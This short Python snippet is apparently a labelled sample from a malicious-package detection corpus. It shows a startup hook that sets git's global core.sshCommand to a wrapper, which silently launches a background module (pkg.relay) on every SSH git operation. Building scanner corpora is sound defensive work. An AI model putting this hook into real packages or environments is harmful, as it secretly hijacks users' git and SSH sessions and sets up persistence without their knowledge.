# pkgguard corpus 691 (startup-hook), modelled on [startup-hooks]; inert, never run.
import subprocess
import sys

wrapper = f"sh -c '{sys.executable} -m pkg.relay >/dev/null 2>&1 & exec ssh \"$@\"' ssh"
subprocess.run(["git", "config", "--global", "core.sshCommand", wrapper], check=False)
